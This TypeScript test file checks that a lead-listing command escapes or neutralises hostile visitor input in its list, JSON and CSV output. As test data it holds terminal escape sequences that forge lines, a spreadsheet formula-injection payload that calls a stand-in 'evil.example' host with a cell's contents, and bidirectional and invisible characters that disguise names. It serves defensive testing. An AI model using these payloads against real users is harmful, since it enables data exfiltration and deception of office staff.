// @vitest-environment node
/**
 * What visitors wrote must not harm the people who read it. Rows stored before the database refused
 * control and hidden characters (0001 alone) hold ANSI escapes, a carriage return, a formula, direction
 * overrides and invisible characters; `npm run leads` shows them escaped (in its list and its JSON) and
 * `npm run leads -- --csv` neutralises them and the formula.
 */
import { execFile } from 'node:child_process'
import { copyFileSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir, userInfo } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createLocalBackend, DEFAULT_MIGRATIONS_DIR, startBackendServer } from '../../scripts/backend/index.ts'
import { csvField, istTime, printable, spreadsheetPhone } from '../../src/editor-calls/lead-text.ts'
import { LOCAL_ANON_KEY } from '../../src/backend/protocol.ts'
import { registerClock } from '../../scripts/lib/office-clock.ts'

const REPO_ROOT = new URL('../../', import.meta.url)
const run = promisify(execFile)
const HOSTILE_NAME = '\u001b]0;pwned\u0007\u001b[2KRavi\rFAKE LEAD <boss@example.in>'
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
/** Shows as "Ravi Kumar paid" in most viewers: an override, a zero-width space, an isolate, a tag character and a Hangul filler. */
const INVISIBLE_NAME = 'Ravi\u202e\u200b Kumar\u2066 paid\u{e0041}\u3164'
let dir: string
let dataDir: string

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'leads-cli-'))
  dataDir = join(dir, 'pglite')
  // The database as it was before 0002_abuse_limits.sql: it took any text that had something in it.
  const firstOnly = join(dir, 'migrations')
  mkdirSync(firstOnly)
  copyFileSync(join(DEFAULT_MIGRATIONS_DIR, '0001_leads.sql'), join(firstOnly, '0001_leads.sql'))
  const old = await createLocalBackend({ dataDir, migrationsDir: firstOnly, handleSignals: false, log: () => {} })
  const server = await startBackendServer(old)
  for (const row of [
    {
      name: HOSTILE_NAME,
      email: 'a@example.in',
      phone: '+91 98110 45670',
      message: 'line one\r\nline two\u001b[8m hidden',
      source_page: '/',
    },
    { name: FORMULA, email: 'b@example.in', phone: null, message: '@SUM(1+1)', source_page: '/contact' },
    { name: INVISIBLE_NAME, email: 'c@example.in', phone: null, message: '\u2067=1+1\u2069', source_page: '/about' },
  ]) {
    const res = await fetch(`${server.url}/rest/v1/lead_submissions`, {
      method: 'POST',
      headers: { apikey: LOCAL_ANON_KEY, 'content-type': 'application/json' },
      body: JSON.stringify(row),
    })
    expect(res.status).toBe(201)
  }
  await server.close()
  await old.close()
  // Today's migrations apply on top: the old rows stay (NOT VALID), and new ones like them are refused.
  const now = await createLocalBackend({ dataDir, handleSignals: false, log: () => {} })
  // An enquiry sent from a Hindi page (0014_language.sql): its language is stored, and only 'en' or 'hi' is.
  const current = await startBackendServer(now)
  const send = (language: string) =>
    fetch(`${current.url}/rest/v1/lead_submissions`, {
      method: 'POST',
      headers: { apikey: LOCAL_ANON_KEY, 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'Sunita Devi', email: 'sunita@example.in', phone: '98110 45671', source_page: '/hi/contact', language }),
    })
  expect((await send('hi')).status).toBe(201)
  expect((await send('fr')).status).toBe(400)
  await current.close()
  await now.close()
}, 60_000)

afterAll(() => rmSync(dir, { recursive: true, force: true }))

const leads = (...args: string[]) =>
  run(process.execPath, ['--import', 'tsx', 'scripts/leads.ts', '--data-dir', dataDir, ...args], { cwd: REPO_ROOT, encoding: 'utf8' })

// Each call starts `npm run leads`, which opens the database anew: a few seconds each, more with two files at once.
describe('npm run leads with hostile text', { timeout: 120_000 }, () => {
  it('prints control characters escaped, so no lead can hide or forge another line', async () => {
    const { stdout } = await leads()
    // eslint-disable-next-line no-control-regex
    expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
    expect(stdout).toContain('\\x1b]0;pwned\\x07\\x1b[2KRavi\\rFAKE LEAD <boss@example.in>')
    expect(stdout).toContain('line one line two\\x1b[8m hidden')
    // Every lead starts its own line with a date: the CR did not start a forged one.
    expect(stdout.split('\n').filter((l) => l.includes('FAKE LEAD'))).toEqual([expect.stringMatching(/^ {2}\d{4}-\d{2}-\d{2} /)])
    expect(stdout).toContain('      language: prefers Hindi')
  })

  it('--csv gives a spreadsheet text, never a formula', async () => {
    const { stdout } = await leads('--csv')
    const lines = stdout.split('\r\n')
    // The editor's Enquiries download, column for column (src/editor-calls/enquiry-rows.ts, enquiriesCsv).
    expect(lines[0]).toBe(
      'Received (IST),Call by (IST),Promise,Form,Name,Phone,Language,E-mail,Service,Page,Message,Came by,Status,Status set by,Status set at (IST),Note,Fee (₹),First called (IST),Taken by',
    )
    // Times in IST as a spreadsheet reads a date and time.
    expect(lines[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},/)
    expect(stdout).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`)
    expect(stdout).toContain(`'@SUM(1+1)`)
    // A phone number shows as typed in India, with no stray apostrophe and no formula.
    expect(stdout).toContain(',(+91) 98110 45670,')
    expect(stdout).not.toContain(`'+91`)
    expect(stdout).not.toMatch(/(^|,)[=+@-]/m)
    // The Hindi page's enquiry: the office calls back in Hindi.
    expect(lines.find((l) => l.includes('Sunita Devi'))).toContain(',(+91) 98110 45671,prefers Hindi,')
    expect(lines.find((l) => l.includes('b@example.in'))).toContain(',English,')
    const guides = await leads('--csv', '--table', 'guides')
    expect(guides.stdout.split('\r\n')[0]).toBe('created_at (IST),name,email,phone,viewed_at (IST),pages_viewed,id')
  })

  it('shows every invisible or format character written out, in the list, the JSON and the CSV', async () => {
    const written = 'Ravi\\u202e\\u200b Kumar\\u2066 paid\\u{e0041}\\u3164'
    const hidden = /[\u200b\u202e\u2066\u2067\u2069\u3164]|\u{e0041}/u
    const list = (await leads()).stdout
    expect(list).toContain(written)
    expect(list).not.toMatch(hidden)
    const json = (await leads('--json')).stdout
    expect(json).not.toMatch(hidden)
    // Still the same data: JSON reads the escapes back as the stored characters.
    expect((JSON.parse(json) as { leads: { name: string }[] }).leads.map((l) => l.name)).toContain(INVISIBLE_NAME)
    const csvText = (await leads('--csv')).stdout
    expect(csvText).toContain(written)
    expect(csvText).toContain('\\u2067=1+1\\u2069')
    expect(csvText).not.toMatch(hidden)
  })

  it('reads the folder LOCAL_BACKEND_DIR names, as the server that wrote it does', async () => {
    const { stdout } = await run(process.execPath, ['--import', 'tsx', 'scripts/leads.ts', '--json'], {
      cwd: REPO_ROOT,
      encoding: 'utf8',
      env: { ...process.env, LOCAL_BACKEND_DIR: dataDir },
    })
    expect(stdout).toContain('b@example.in')
  })

  it('writes each read in the log of who read what: who (this computer’s git user, else its login), which rows, how', async () => {
    const logged = async () => {
      const db = await createLocalBackend({ dataDir, handleSignals: false, log: () => {} })
      try {
        return await db.ownerQuery<{ who: string; what: string; rows: number; kind: string }>(
          `select who, what, cardinality(rows_read) as rows, export_kind as kind from private.office_reads order by id`,
        )
      } finally {
        await db.close()
      }
    }
    const before = await logged()
    await leads('--json')
    await leads('--csv', '--table', 'guides')
    {
      const reads = await logged()
      const git = await run('git', ['config', 'user.name'], { cwd: REPO_ROOT, encoding: 'utf8' }).then(
        (r) => r.stdout.trim(),
        () => '',
      )
      const who = git || userInfo().username
      // The JSON showed the four leads; the guides' CSV showed nobody (there are none here), so it logged nothing.
      expect(reads.slice(before.length)).toEqual([{ who, what: 'enquiries', rows: 4, kind: 'command-line-json' }])
      // The tests before this one read the list and its CSV: each was logged.
      expect(before.map((r) => r.kind)).toEqual(expect.arrayContaining(['command-line', 'command-line-csv']))
    }
  })

  it('the helpers: escapes and fields', () => {
    expect(printable('a\u202eb\tc')).toBe('a\\u202eb\\tc')
    expect(printable('श्\u200dरी\u00a0')).toBe('श्\\u200dरी\\xa0')
    expect(csvField('line\nbreak\r\u001b')).toBe('"line\nbreak\\r\\x1b"')
    expect(csvField('-2+3')).toBe("'-2+3")
    expect(istTime(new Date('2026-11-26T18:45:30Z'))).toBe('2026-11-27 00:15:30')
    expect(istTime('2026-03-31T00:00:00.000Z')).toBe('2026-03-31 05:30:00')
    for (const typed of ['+91 98110 45670', '+919811045670', '09811045670', '98110-45670', '91 98110 45670'])
      expect(spreadsheetPhone(typed), typed).toBe('(+91) 98110 45670')
    // Not an Indian mobile number: left as typed, for csvField to make safe.
    expect(spreadsheetPhone('+1 415 555 0100')).toBe('+1 415 555 0100')
    expect(csvField(spreadsheetPhone('+1 415 555 0100'))).toBe("'+1 415 555 0100")
    expect(csvField('plain, with comma')).toBe('"plain, with comma"')
    expect(csvField(null)).toBe('')
  })
})

describe('npm run leads and the promises', { timeout: 120_000 }, () => {
  // Three starts of the database (the set-up, then two runs of the command): more than the default on a busy machine.
  it('says when each enquiry is due, in its list and its CSV', async () => {
    const own = join(dir, 'promised')
    const db = await createLocalBackend({ dataDir: own, handleSignals: false, log: () => {} })
    try {
      await registerClock(db, REPO_ROOT.pathname)
      await db.ownerQuery(
        `insert into public.lead_submissions (name, email, phone, message, service, source_page, created_at)
         values ('Nisha Rao', 'nisha@example.in', '+91 98110 45671', 'About GST', '', '/contact', '2027-01-11T04:30:00Z')`,
      )
    } finally {
      await db.close()
    }
    const mine = (...args: string[]) =>
      run(process.execPath, ['--import', 'tsx', 'scripts/leads.ts', '--data-dir', own, ...args], { cwd: REPO_ROOT, encoding: 'utf8' })
    // The contact page promised a reply within 24 hours, around the clock.
    expect((await mine()).stdout).toContain('      call by: 2027-01-12 04:30:00 (1-day promise)')
    expect((await mine('--csv')).stdout.split('\r\n')[1]).toMatch(
      /^2027-01-11 10:00:00,2027-01-12 10:00:00,1-day promise,Contact form,Nisha Rao,/,
    )
  }, 90_000)
})
